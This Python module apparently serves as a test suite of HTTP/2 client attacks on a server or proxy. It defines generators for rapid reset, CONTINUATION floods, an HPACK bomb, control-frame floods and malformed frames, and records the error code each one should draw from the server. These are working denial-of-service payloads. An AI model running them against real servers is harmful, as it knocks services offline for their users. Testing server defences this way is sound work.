"""Attacks by HTTP/2 clients: each a stream of bytes that continues until the server closes it, and how it is closed.

The heads are written by hand, without any state, so that they can be repeated: literal fields, never indexed.
"""

import struct
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from hpack import Encoder, NeverIndexedHeaderTuple
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    PushPromiseFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
WIDEST = (1 << 31) - 1
PROTOCOL_ERROR, FLOW_CONTROL_ERROR, STREAM_CLOSED, FRAME_SIZE_ERROR, ENHANCE_YOUR_CALM = 1, 3, 5, 6, 11


Bytes = Callable[[int], Iterator[bytes]]


@dataclass(frozen=True)
class Attack:
    """What is sent behind the preface, given the port of a target that echoes, and how it may be answered."""

    bytes: Bytes
    codes: frozenset[int]
    word: str
    """The reason that the server sends."""


ATTACKS: dict[str, Attack] = {}


def attack(*codes: int, word: str = "") -> Callable[[Bytes], Bytes]:
    """Add one to the list."""

    def add(made: Bytes) -> Bytes:
        ATTACKS[made.__name__.replace("_", " ")] = Attack(made, frozenset(codes), word)
        return made

    return add


def literal(name: bytes, value: bytes) -> bytes:
    """Write a field, short of 127 bytes each."""
    return bytes([0x10, len(name)]) + name + bytes([len(value)]) + value


def block(port: int) -> bytes:
    """Write the head of a CONNECT."""
    return literal(b":method", b"CONNECT") + literal(b":authority", b"a.example:%d" % port)


def connect(stream: int, port: int) -> bytes:
    """Ask for a tunnel."""
    return bytes(HeadersFrame(stream, data=block(port), flags=["END_HEADERS"]).serialize())


def streams() -> Iterator[int]:
    """Give the numbers of a client's streams."""
    return iter(range(1, 1 << 20, 2))


@attack(ENHANCE_YOUR_CALM, word="resets")
def rapid_reset(port: int) -> Iterator[bytes]:
    for stream in streams():
        yield connect(stream, port) + RstStreamFrame(stream, error_code=8).serialize()


@attack(ENHANCE_YOUR_CALM, word="mistakes")
def rapid_reset_by_the_server(port: int) -> Iterator[bytes]:
    """Have the server reset each stream, by an error in it."""
    for stream in streams():
        yield connect(stream, port) + b"\0\0\x04\x08\0" + stream.to_bytes(4) + b"\0\0\0\0"


@attack(ENHANCE_YOUR_CALM, word="mistakes")
def rapid_end(port: int) -> Iterator[bytes]:
    """Say more behind the end of each stream."""
    for stream in streams():
        data = DataFrame(stream, data=b"x", flags=["END_STREAM"]).serialize()
        yield connect(stream, port) + data + data


@attack(ENHANCE_YOUR_CALM, word="mistakes")
def more_streams_than_there_may_be(port: int) -> Iterator[bytes]:
    for stream in streams():
        yield connect(stream, port)


@attack(ENHANCE_YOUR_CALM, word="mistakes")
def requests_that_are_no_connects(port: int) -> Iterator[bytes]:
    head = literal(b":method", b"GET") + literal(b":scheme", b"https") + literal(b":path", b"/")
    for stream in streams():
        yield HeadersFrame(stream, data=head, flags=["END_HEADERS", "END_STREAM"]).serialize()


@attack(ENHANCE_YOUR_CALM, word="mistakes")
def malformed_requests(port: int) -> Iterator[bytes]:
    for stream in streams():
        yield HeadersFrame(stream, data=literal(b"X", b"y"), flags=["END_HEADERS"]).serialize()


@attack(ENHANCE_YOUR_CALM, word="header block")
def continuation_of_one_byte(port: int) -> Iterator[bytes]:
    yield HeadersFrame(1, data=block(port)).serialize()
    while True:
        yield ContinuationFrame(1, data=b"\x10").serialize()


@attack(ENHANCE_YOUR_CALM, word="header block")
def continuation_of_nothing(port: int) -> Iterator[bytes]:
    yield HeadersFrame(1).serialize()
    while True:
        yield ContinuationFrame(1).serialize()


@attack(ENHANCE_YOUR_CALM, word="header block")
def continuation_of_much(port: int) -> Iterator[bytes]:
    yield HeadersFrame(1, data=block(port)).serialize()
    while True:
        yield ContinuationFrame(1, data=literal(b"x", b"y" * 100) * 150).serialize()


@attack(ENHANCE_YOUR_CALM)
def hpack_bomb(port: int) -> Iterator[bytes]:
    """Have one large field remembered, and say it again in a byte, 16,000 times in each head."""
    remembered = Encoder().encode([("x", "y" * 4000)], huffman=False)
    yield HeadersFrame(1, data=block(port) + remembered, flags=["END_HEADERS"]).serialize()
    for stream in range(3, 1 << 20, 2):
        yield HeadersFrame(stream, data=block(port) + b"\xbe" * 16_000, flags=["END_HEADERS"]).serialize()


@attack(ENHANCE_YOUR_CALM, word="head bytes")
def heads_that_take_long(port: int) -> Iterator[bytes]:
    """Write as many letters in Huffman's code as there may be."""
    letters = Encoder().encode([NeverIndexedHeaderTuple("x", "e" * 25_000)])
    for stream in streams():
        yield HeadersFrame(stream, data=block(port) + letters, flags=["END_HEADERS"]).serialize()


@attack(ENHANCE_YOUR_CALM, word="header block")
def heads_that_are_too_long(port: int) -> Iterator[bytes]:
    """Write more letters in Huffman's code than there may be."""
    letters = Encoder().encode([NeverIndexedHeaderTuple("x", "e" * 100_000)])
    for stream in streams():
        yield HeadersFrame(stream, data=block(port) + letters[:16_000]).serialize()
        for start in range(16_000, len(letters), 16_000):
            yield ContinuationFrame(stream, data=letters[start : start + 16_000]).serialize()


@attack(ENHANCE_YOUR_CALM, word="settings")
def settings_without_end(port: int) -> Iterator[bytes]:
    while True:
        yield SettingsFrame(0).serialize()


@attack(ENHANCE_YOUR_CALM, word="settings")
def settings_of_many_kinds(port: int) -> Iterator[bytes]:
    for first in range(100, 60_000, 64):
        values = b"".join(struct.pack(">HL", first + number, number) for number in range(64))
        yield b"\0\x01\x80\x04\0\0\0\0\0" + values


@attack(ENHANCE_YOUR_CALM, word="settings")
def settings_of_a_table_and_of_windows(port: int) -> Iterator[bytes]:
    for number in range(1 << 20):
        yield SettingsFrame(0, settings={1: number * 4096, 4: number}).serialize()


@attack(ENHANCE_YOUR_CALM, word="pings")
def pings(port: int) -> Iterator[bytes]:
    while True:
        yield PingFrame(0, opaque_data=b"12345678").serialize()


@attack(ENHANCE_YOUR_CALM, word="pings")
def answers_to_no_ping(port: int) -> Iterator[bytes]:
    while True:
        yield PingFrame(0, opaque_data=b"12345678", flags=["ACK"]).serialize()


@attack(ENHANCE_YOUR_CALM, word="idle frames")
def priorities(port: int) -> Iterator[bytes]:
    for stream in streams():
        yield PriorityFrame(stream, depends_on=0).serialize()


@attack(ENHANCE_YOUR_CALM, word="idle frames")
def frames_of_unknown_types(port: int) -> Iterator[bytes]:
    while True:
        yield b"\0\0\x08\xbe\0\0\0\0\x01abcdefgh"


@attack(ENHANCE_YOUR_CALM, word="idle frames")
def goaways(port: int) -> Iterator[bytes]:
    yield connect(1, port)
    while True:
        yield GoAwayFrame(0).serialize()


@attack(ENHANCE_YOUR_CALM, word="empty DATA")
def empty_data(port: int) -> Iterator[bytes]:
    yield connect(1, port)
    while True:
        yield DataFrame(1).serialize()


@attack(ENHANCE_YOUR_CALM, word="empty DATA")
def nothing_but_padding(port: int) -> Iterator[bytes]:
    yield connect(1, port)
    while True:
        yield DataFrame(1, pad_length=255, flags=["PADDED"]).serialize()


@attack(ENHANCE_YOUR_CALM, word="late DATA")
def data_for_streams_that_are_over(port: int) -> Iterator[bytes]:
    yield connect(1, port) + RstStreamFrame(1).serialize()
    while True:
        yield DataFrame(1, data=b"").serialize()


@attack(ENHANCE_YOUR_CALM, word="WINDOW_UPDATE")
def windows_opened_by_one(port: int) -> Iterator[bytes]:
    yield connect(1, port)
    while True:
        yield WindowUpdateFrame(1, window_increment=1).serialize()


@attack(ENHANCE_YOUR_CALM, word="WINDOW_UPDATE")
def windows_of_streams_that_are_over(port: int) -> Iterator[bytes]:
    yield connect(1, port) + RstStreamFrame(1).serialize()
    while True:
        yield WindowUpdateFrame(1, window_increment=1).serialize()


@attack(FLOW_CONTROL_ERROR)
def the_connection_too_wide(port: int) -> Iterator[bytes]:
    while True:
        yield WindowUpdateFrame(0, window_increment=WIDEST).serialize()


@attack(ENHANCE_YOUR_CALM, word="mistakes")
def streams_too_wide(port: int) -> Iterator[bytes]:
    for stream in streams():
        yield connect(stream, port) + WindowUpdateFrame(stream, window_increment=WIDEST).serialize()


@attack(FLOW_CONTROL_ERROR)
def settings_that_make_streams_too_wide(port: int) -> Iterator[bytes]:
    yield connect(1, port) + WindowUpdateFrame(1, window_increment=WIDEST - 65_535).serialize()
    while True:
        yield SettingsFrame(0, settings={4: 65_536}).serialize()


@attack(PROTOCOL_ERROR)
def windows_opened_by_nothing(port: int) -> Iterator[bytes]:
    while True:
        yield b"\0\0\x04\x08\0\0\0\0\0\0\0\0\0"


@attack(FLOW_CONTROL_ERROR, ENHANCE_YOUR_CALM)
def more_data_than_the_window(port: int) -> Iterator[bytes]:
    yield connect(1, 1)
    while True:
        yield DataFrame(1, data=bytes(16_384)).serialize()


@attack(FLOW_CONTROL_ERROR, ENHANCE_YOUR_CALM)
def more_data_than_the_windows_of_streams(port: int) -> Iterator[bytes]:
    for stream in streams():
        yield connect(stream, port) + b"\0\xff\xff\0\0" + stream.to_bytes(4) + bytes(65_535)
        yield DataFrame(stream, data=b"x").serialize()


@attack(PROTOCOL_ERROR, FRAME_SIZE_ERROR)
def garbage(port: int) -> Iterator[bytes]:
    while True:
        yield bytes(range(256))


@attack(PROTOCOL_ERROR)
def zeroes(port: int) -> Iterator[bytes]:
    while True:
        yield bytes(4096)


@attack(FRAME_SIZE_ERROR)
def a_second_preface(port: int) -> Iterator[bytes]:
    while True:
        yield PREFACE


@attack(FRAME_SIZE_ERROR)
def a_frame_of_16_mebibytes(port: int) -> Iterator[bytes]:
    yield connect(1, port) + b"\xff\xff\xff\0\0\0\0\0\x01"
    while True:
        yield bytes(16_384)


@attack(PROTOCOL_ERROR)
def data_on_a_stream_never_begun(port: int) -> Iterator[bytes]:
    while True:
        yield DataFrame(5, data=b"x").serialize()


@attack(PROTOCOL_ERROR)
def a_reset_of_a_stream_never_begun(port: int) -> Iterator[bytes]:
    while True:
        yield RstStreamFrame(5).serialize()


@attack(PROTOCOL_ERROR)
def a_stream_of_the_servers_own(port: int) -> Iterator[bytes]:
    for stream in range(2, 1 << 20, 2):
        yield connect(stream, port)


@attack(PROTOCOL_ERROR, STREAM_CLOSED)
def streams_in_a_falling_order(port: int) -> Iterator[bytes]:
    for stream in range(1001, 1, -2):
        yield connect(stream, port)


@attack(ENHANCE_YOUR_CALM, word="mistakes")
def a_second_head_behind_the_end(port: int) -> Iterator[bytes]:
    end = DataFrame(1, flags=["END_STREAM"]).serialize()
    yield connect(1, port) + end
    while True:
        yield connect(1, port)


@attack(ENHANCE_YOUR_CALM, word="resets")
def streams_used_again(port: int) -> Iterator[bytes]:
    for stream in streams():
        yield connect(stream, port) + RstStreamFrame(stream).serialize() + connect(stream, port)


@attack(PROTOCOL_ERROR)
def a_push(port: int) -> Iterator[bytes]:
    yield connect(1, port)
    while True:
        yield PushPromiseFrame(1, promised_stream_id=2, data=block(port), flags=["END_HEADERS"]).serialize()


@attack(PROTOCOL_ERROR)
def continuation_amid_nothing(port: int) -> Iterator[bytes]:
    while True:
        yield ContinuationFrame(1, data=b"x", flags=["END_HEADERS"]).serialize()


@attack(PROTOCOL_ERROR)
def data_amid_a_head(port: int) -> Iterator[bytes]:
    yield connect(1, port) + HeadersFrame(3, data=block(port)).serialize()
    while True:
        yield DataFrame(1, data=b"x").serialize()


@attack(9)  # COMPRESSION_ERROR
def a_head_that_hpack_cannot_read(port: int) -> Iterator[bytes]:
    for stream in streams():
        yield HeadersFrame(stream, data=b"\xff\xff\xff\xff\xff\xff", flags=["END_HEADERS"]).serialize()


@attack(ENHANCE_YOUR_CALM, word="mistakes")
def trailers(port: int) -> Iterator[bytes]:
    for stream in streams():
        trailer = HeadersFrame(stream, data=literal(b"x", b"y"), flags=["END_HEADERS", "END_STREAM"]).serialize()
        yield connect(stream, port) + trailer
